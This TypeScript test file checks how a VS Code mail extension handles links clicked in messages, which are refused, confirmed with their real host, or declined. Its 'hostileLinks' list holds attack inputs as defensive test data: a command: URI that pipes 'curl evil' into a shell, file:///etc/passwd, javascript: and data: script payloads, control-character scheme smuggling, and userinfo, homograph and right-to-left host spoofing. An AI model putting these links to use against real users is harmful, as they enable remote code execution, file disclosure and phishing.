// [SEC-8] [SEC-28] The path from a reader's 'openLink' message to the confirmation and to the
// browser, with the editor's dialog and openExternal replaced by recorders.
import * as assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import { isReaderToExtension } from '../../../src/shared/protocolChecks';
import { externalOpener } from '../../../src/util/externalOpener';
import type { LinkOpening, LinkOutcome } from '../../../src/views/linkPolicy';
import { openLinkFromMail } from '../../../src/views/linkPolicy';

interface Recorded {
  refusals: string[];
  confirmations: { question: string; detail: string; action: string }[];
  opened: string[];
}

function recordingOpening(answer: boolean): { opening: LinkOpening; recorded: Recorded } {
  const recorded: Recorded = { refusals: [], confirmations: [], opened: [] };
  const opening: LinkOpening = {
    refuse: (message) => void recorded.refusals.push(message.value),
    confirm: async (question, detail, action) => {
      recorded.confirmations.push({ question: question.value, detail: detail.value, action: action.value });
      return answer;
    },
    openExternal: async (url) => {
      recorded.opened.push(url);
      return true;
    },
  };
  return { opening, recorded };
}

/** What the reader's webview sends for a click; the extension accepts only what the protocol check lets through. */
async function clickFromWebview(url: string, answer: boolean): Promise<{ outcome: LinkOutcome | 'rejected by protocol'; recorded: Recorded }> {
  const { opening, recorded } = recordingOpening(answer);
  const message: unknown = { type: 'openLink', url };
  if (!isReaderToExtension(message) || message.type !== 'openLink') {
    return { outcome: 'rejected by protocol', recorded };
  }
  return { outcome: await openLinkFromMail(message.url, opening), recorded };
}

const hostileLinks = [
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D',
  'command:mailroom.signOut',
  'COMMAND:mailroom.signOut',
  'CoMmAnD:workbench.action.terminal.new',
  '  command:workbench.action.terminal.new  ',
  '\tcommand:workbench.action.terminal.new\n',
  'com\tmand:workbench.action.terminal.new',
  'file:///etc/passwd',
  'FILE:///C:/Windows/System32/calc.exe',
  'file://server/share/run.exe',
  'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Frepo',
  'VSCODE://ms-vscode.remote-server/open',
  'vscode-insiders://vscode.git/clone?url=x',
  'vscode-file://vscode-app/etc/passwd',
  'code-oss://x',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0000javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox',
  'blob:https://example.com/0f2b',
  'about:blank',
  'ftp://example.com/file',
  'ws://example.com/socket',
  'ssh://evil.example',
  'https://good.example@evil.example/',
  'https://good.example:password@evil.example/',
  'http://good.example@evil.example/',
  'https://good.example%2F@evil.example/',
  'HTTPS://GOOD.EXAMPLE@EVIL.EXAMPLE/',
  'https://good.example%40evil.example/',
  'https://good.example\uFF20evil.example/',
  'https://a\u202Eelpmaxe.evil/',
  'https://',
  '//evil.example',
  'evil.example',
  '',
  '   ',
  `https://example.com/${'a'.repeat(9000)}`,
];

describe('opening links from mail', () => {
  it('[SEC-28] a refused link never reaches the confirmation nor openExternal, and the person is told', async () => {
    for (const url of hostileLinks) {
      const { outcome, recorded } = await clickFromWebview(url, true);
      assert.deepEqual(recorded.opened, [], `${JSON.stringify(url)} was opened`);
      assert.deepEqual(recorded.confirmations, [], `${JSON.stringify(url)} was offered for confirmation`);
      if (outcome === 'refused') {
        assert.equal(recorded.refusals.length, 1, JSON.stringify(url));
        assert.match(recorded.refusals[0], /^Mailroom did not open this link\./);
      } else {
        assert.equal(outcome, 'rejected by protocol', JSON.stringify(url));
      }
    }
  });

  // The real host the browser will contact, as the confirmation must name it.
  const allowedLinks: { url: string; shown: string; host: string; action: string }[] = [
    { url: 'https://example.com/a?b=c', shown: 'https://example.com/a?b=c', host: 'https://example.com', action: 'Open Link' },
    { url: '  https://example.com/path  ', shown: 'https://example.com/path', host: 'https://example.com', action: 'Open Link' },
    { url: 'HTTPS://EXAMPLE.COM:443/A B', shown: 'https://example.com/A%20B', host: 'https://example.com', action: 'Open Link' },
    { url: 'http://example.com:8080', shown: 'http://example.com:8080/', host: 'http://example.com:8080', action: 'Open Link' },
    // A look-alike Cyrillic name is shown and opened as the punycode the browser resolves.
    { url: 'https://аpple.com/login', shown: 'https://xn--pple-43d.com/login', host: 'https://xn--pple-43d.com', action: 'Open Link' },
    { url: 'https://xn--pple-43d.com/login', shown: 'https://xn--pple-43d.com/login', host: 'https://xn--pple-43d.com', action: 'Open Link' },
    // The text after @ in the fragment or path does not change the host, and the dialog says so.
    { url: 'https://evil.example#@good.example', shown: 'https://evil.example/#@good.example', host: 'https://evil.example', action: 'Open Link' },
    { url: 'https://good.example\\@evil.example/', shown: 'https://good.example/@evil.example/', host: 'https://good.example', action: 'Open Link' },
    { url: 'https://good.example.evil.example/', shown: 'https://good.example.evil.example/', host: 'https://good.example.evil.example', action: 'Open Link' },
    { url: 'mailto:bob%40mailroom.test?subject=hi', shown: 'mailto:bob%40mailroom.test?subject=hi', host: 'bob@mailroom.test', action: 'Write Mail' },
    { url: 'MAILTO:alice@mailroom.test', shown: 'mailto:alice@mailroom.test', host: 'alice@mailroom.test', action: 'Write Mail' },
  ];

  it('[SEC-28] an allowed link is confirmed naming its real host, then opened exactly as shown', async () => {
    for (const { url, shown, host, action } of allowedLinks) {
      const { outcome, recorded } = await clickFromWebview(url, true);
      assert.equal(outcome, 'opened', url);
      assert.deepEqual(recorded.refusals, [], url);
      assert.equal(recorded.confirmations.length, 1, url);
      const [confirmation] = recorded.confirmations;
      assert.equal(confirmation.detail, shown, url);
      assert.equal(confirmation.action, action, url);
      assert.ok(confirmation.question.includes(host), `${url}: "${confirmation.question}" does not name ${host}`);
      assert.deepEqual(recorded.opened, [confirmation.detail], `${url} opened something other than what was shown`);
    }
  });

  it('[SEC-28] a declined confirmation opens nothing', async () => {
    for (const { url } of allowedLinks) {
      const { outcome, recorded } = await clickFromWebview(url, false);
      assert.equal(outcome, 'declined', url);
      assert.equal(recorded.confirmations.length, 1, url);
      assert.deepEqual(recorded.opened, [], url);
    }
  });

  it('[SEC-8] the browser opener hands the editor the exact string, never a re-encoded vscode.Uri', async () => {
    const received: unknown[] = [];
    const env: Pick<typeof vscode.env, 'openExternal'> = {
      openExternal: async (target) => {
        received.push(target);
        return true;
      },
    };
    // A forwarding redirect's state holds an encoded URL with its own query: a Uri would decode the %26.
    const authorization =
      'https://issuer.test/auth?response_type=code&state=abc.https%3A%2F%2Fhost%2Fcallback%3Fvscode-reqid%3D1%26vscode-scheme%3Dcode-oss&code_challenge_method=S256';
    assert.equal(await externalOpener(env)(authorization), true);
    assert.deepEqual(received, [authorization]);
    assert.equal(typeof received[0], 'string');
  });

  it('[SEC-8] [SEC-28] a confirmed link reaches the editor through the same opener, unchanged', async () => {
    const received: unknown[] = [];
    const env: Pick<typeof vscode.env, 'openExternal'> = {
      openExternal: async (target) => {
        received.push(target);
        return true;
      },
    };
    const { opening, recorded } = recordingOpening(true);
    const outcome = await openLinkFromMail('https://example.com/a?next=https%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2', {
      ...opening,
      openExternal: externalOpener(env),
    });
    assert.equal(outcome, 'opened');
    assert.deepEqual(received, [recorded.confirmations[0].detail]);
  });
});
